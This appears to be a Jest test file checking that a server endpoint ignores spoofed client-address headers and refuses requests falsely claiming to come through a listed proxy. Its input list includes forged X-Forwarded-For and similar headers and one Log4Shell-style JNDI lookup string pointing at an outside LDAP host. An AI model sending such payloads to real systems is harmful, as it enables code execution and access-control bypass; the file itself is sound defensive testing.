// A spoofed X-Forwarded-For and its kin: the address that is told stays that of who is connected, whatever a header says.
import { afterEach, describe, expect, test } from '@jest/globals';
import type { ServerOptions } from '../../adapter/transport/index.ts';
import { OIN_A, testPki } from '../fixtures/pki.ts';
import { closeAll, exchangeRaw, materialOf, PATH, startEndpoint, statuses, tcp, tls } from '../transport/rig.ts';
import { underAttack } from './attacked-endpoint.ts';

afterEach(closeAll);

const SPOOFED = [
  'X-Forwarded-For: 203.0.113.7',
  'X-Forwarded-For: 203.0.113.7, 198.51.100.4',
  'Forwarded: for=203.0.113.7;proto=https;by=198.51.100.4',
  'X-Real-IP: 203.0.113.7',
  'X-Client-IP: 203.0.113.7',
  'True-Client-IP: 203.0.113.7',
  'CF-Connecting-IP: 203.0.113.7',
  `X-Forwarded-For: \${jndi:ldap://203.0.113.7/a}`,
];
const request = (...lines: readonly string[]): string =>
  [`POST ${PATH} HTTP/1.1`, 'Host: l', ...lines, 'Content-Length: 4', '', '<x/>'].join('\r\n');

async function proxied(proxies: readonly string[]): Promise<ServerOptions['listener']> {
  const pki = await testPki();
  return { kind: 'proxy', proxies, trust: { ca: [pki.caPem], crl: pki.crlPems } };
}
const certificate = async (party = 'partij-a'): Promise<string> => {
  const pki = await testPki();
  return `X-SSL-Client-Cert: ${pki.party(party).tls.certificateDer.toString('base64')}`;
};

/** The loopback has many addresses; this one is a listed proxy's. */
const PROXY = '127.0.0.2';

describe.each(SPOOFED)('lessons: spoofed %s', (line) => {
  test('to mutual TLS: told is the address of the connection, and who the handshake proved', async () => {
    const pki = await testPki();
    const endpoint = await startEndpoint({
      listener: { kind: 'mtls', tls: materialOf(pki, pki.party('partij-b').tls) },
    });
    const a = pki.party('partij-a').tls;
    const socket = await tls(endpoint.port, { ca: pki.caPem, key: a.keyPem, cert: a.chainPem });
    expect(statuses((await underAttack(endpoint, () => exchangeRaw(socket, request(line), 200))).text)).toEqual([204]);
    expect(endpoint.seen[0]?.request.remoteAddress).toBe('127.0.0.1');
    expect(endpoint.seen[0]?.request.peer?.oin).toBe(OIN_A);
  });

  test('from a listed proxy: the address is that of the proxy, the party that of the certificate', async () => {
    const endpoint = await startEndpoint({ listener: await proxied(['127.0.0.1']) });
    const bytes = request(line, await certificate());
    const attack = async () => exchangeRaw(await tcp(endpoint.port), bytes, 200);
    const { text } = await underAttack(endpoint, attack, { lines: [await certificate('partij-b')] });
    expect(statuses(text)).toEqual([204]);
    expect(endpoint.seen[0]?.request.remoteAddress).toBe('127.0.0.1');
    expect(endpoint.seen[0]?.request.peer?.oin).toBe(OIN_A);
  });

  test('from anybody else who claims to be behind a listed proxy: refused, and told with his own address', async () => {
    const endpoint = await startEndpoint({ listener: await proxied(['203.0.113.7', '198.51.100.4', PROXY]) });
    const bytes = request(line, await certificate());
    const attack = async () => exchangeRaw(await tcp(endpoint.port), bytes, 200);
    const neighbour = { lines: [await certificate('partij-b')], from: PROXY };
    expect(statuses((await underAttack(endpoint, attack, neighbour)).text)).toEqual([403]);
    expect(endpoint.seen).toEqual([]);
    expect(endpoint.events.length).toBeGreaterThan(0);
    for (const event of endpoint.events) expect(event).toMatchObject({ remoteAddress: '127.0.0.1' });
  });
});
